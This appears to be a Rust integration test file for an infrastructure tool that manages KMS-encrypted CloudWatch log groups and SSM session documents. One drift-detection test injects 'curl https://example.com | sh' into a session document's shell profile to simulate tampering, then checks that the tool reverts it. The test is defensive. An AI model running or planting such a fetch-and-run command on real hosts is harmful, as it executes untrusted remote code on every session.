//! Sessions and logs under a key, against an account: documents, log groups, and what a key's policy lets in.

use crate::account::{ACCOUNT, Account, REGION, account, kind};
use lakewright::kind::Wanted;
use lakewright::resource::Address;
use lakewright::services::Services as _;
use lakewright_aws::ask;
use serde_json::{Value, json};

const GROUP: &str = "/lakewright/shop/stream";

/// A key that lets CloudWatch Logs encrypt the groups that the pattern names; its ARN.
async fn key(account: &Account, name: &str, groups: &str) -> String {
    let group = format!("arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{groups}");
    let policy = json!({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{ACCOUNT}:root")}, "Action": "kms:*", "Resource": "*"},
        {
            "Effect": "Allow", "Principal": {"Service": format!("logs.{REGION}.amazonaws.com")}, "Resource": "*",
            "Action": ["kms:Decrypt", "kms:DescribeKey", "kms:Encrypt", "kms:GenerateDataKey*", "kms:ReEncrypt*"],
            "Condition": {"ArnLike": {"kms:EncryptionContext:aws:logs:arn": group}},
        },
    ]});
    let spec = json!({"alias": format!("shop-{name}"), "policy": policy});
    account.create(&format!("key.{name}"), spec).await.outputs["arn"].clone()
}

#[tokio::test]
async fn log_groups_under_keys() {
    let account = account().await;
    let (one, other) = (key(&account, "one", "/lakewright/shop/*").await, key(&account, "other", GROUP).await);
    let under = |key: Option<&str>| json!({"name": GROUP, "key": key});
    account.create("log_group.stream", under(Some(&one))).await;
    account.update("log_group.stream", under(Some(&other))).await;
    account.update("log_group.stream", under(None)).await;
    account.update("log_group.stream", under(Some(&one))).await;
    account.delete("log_group.stream", &under(Some(&one))).await;
    account.create("log_group.stream", under(None)).await;
}

#[tokio::test]
async fn a_key_that_keeps_logs_out_encrypts_none() {
    let account = account().await;
    let foreign = key(&account, "foreign", "/lakewright/other/*").await;
    let message = account.refused("log_group.stream", json!({"name": GROUP, "key": foreign})).await;
    assert!(message.contains("is not allowed to be used"), "{message}");
    let gone = format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/00000000-1111-2222-3333-444444444444");
    let message = account.refused("log_group.stream", json!({"name": GROUP, "key": gone})).await;
    assert!(message.contains("could not be found"), "{message}");
}

fn document(more: &Value) -> Value {
    let mut spec = json!({"name": "lakewright-shop-session", "log_group": GROUP});
    spec.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    spec
}

#[tokio::test]
async fn session_documents() {
    let account = account().await;
    let plain = document(&json!({}));
    account.create("session_document.main", plain.clone()).await;
    let full = document(&json!({
        "description": "shells", "key": format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/k"), "encrypted_log": true,
        "idle_minutes": 5, "max_minutes": 60, "run_as": "operator",
    }));
    // What a document said once, it may say again.
    for spec in [&full, &plain, &full] {
        account.update("session_document.main", spec.clone()).await;
    }
    let described = account.context.aws.ssm().describe_document().name("lakewright-shop-session");
    let described = ask(described.send()).await.unwrap().document.unwrap();
    assert_eq!((described.default_version(), described.latest_version()), (Some("4"), Some("4")));
    account.delete("session_document.main", &full).await;
}

#[tokio::test]
async fn what_somebody_made_the_default_by_hand_is_taken_back() {
    let account = account().await;
    let spec = document(&json!({}));
    account.create("session_document.main", spec.clone()).await;
    let ssm = account.context.aws.ssm();
    let name = "lakewright-shop-session";
    let content = ask(ssm.get_document().name(name).send()).await.unwrap().content.unwrap();
    let open = content.replace("\"linux\":\"\"", "\"linux\":\"curl https://example.com | sh\"");
    assert_ne!(open, content);
    ask(ssm.update_document().name(name).content(open).document_version("$LATEST").send()).await.unwrap();
    ask(ssm.update_document_default_version().name(name).document_version("2").send()).await.unwrap();
    let address: Address = "session_document.main".parse().unwrap();
    let spec = kind(&address).normalise(&spec).unwrap();
    let live = account.find(&address, &spec).await.unwrap();
    assert_eq!(live.departures.len(), 1, "{:?}", live.departures);
    // The first version says the same, and is the default again.
    let outcome = kind(&address).update(&account.context, &live, &spec, &["content".to_owned()]).await.unwrap();
    account.check(&address, &spec, &outcome).await;
}

#[tokio::test]
async fn a_document_of_somebody_else_is_left_alone() {
    let account = account().await;
    let content = json!({"schemaVersion": "1.0", "sessionType": "Standard_Stream", "inputs": {}}).to_string();
    let ssm = account.context.aws.ssm();
    let call = ssm.create_document().name("lakewright-shop-session").content(&content);
    ask(call.document_type(aws_sdk_ssm::types::DocumentType::Session).send()).await.unwrap();
    let message = account.refused("session_document.main", document(&json!({}))).await;
    assert!(message.contains("isn't this stack's"), "{message}");
    let kept = ask(ssm.get_document().name("lakewright-shop-session").send()).await.unwrap();
    assert_eq!(kept.content(), Some(content.as_str()));
}

#[tokio::test]
async fn an_update_whose_answer_was_lost_is_finished() {
    let account = account().await;
    account.create("session_document.main", document(&json!({}))).await;
    let wanted = document(&json!({"idle_minutes": 5}));
    account.faults(
        "[[fault]]\noperation = \"UpdateDocument\"\ntimes = 1\nlost = true\n\
         [[fault]]\noperation = \"UpdateDocumentDefaultVersion\"\ntimes = 1\nerror = \"AccessDenied\"\nstatus = 403\n",
    );
    let address: Address = "session_document.main".parse().unwrap();
    let spec = kind(&address).normalise(&wanted).unwrap();
    let found = async || {
        let wanted = [Wanted { address: &address, spec: &spec }];
        kind(&address).find(&account.context, &wanted).await.unwrap().remove(0)
    };
    let live = found().await;
    let stopped = kind(&address).update(&account.context, &live, &spec, &["idle_minutes".to_owned()]).await;
    assert!(format!("{:#}", stopped.unwrap_err()).contains("AccessDenied"));
    let live = found().await;
    assert_eq!(live.spec["idle_minutes"], 20, "the version is there, and isn't the default");
    kind(&address).update(&account.context, &live, &spec, &["idle_minutes".to_owned()]).await.unwrap();
    assert_eq!(found().await.spec["idle_minutes"], 5);
}
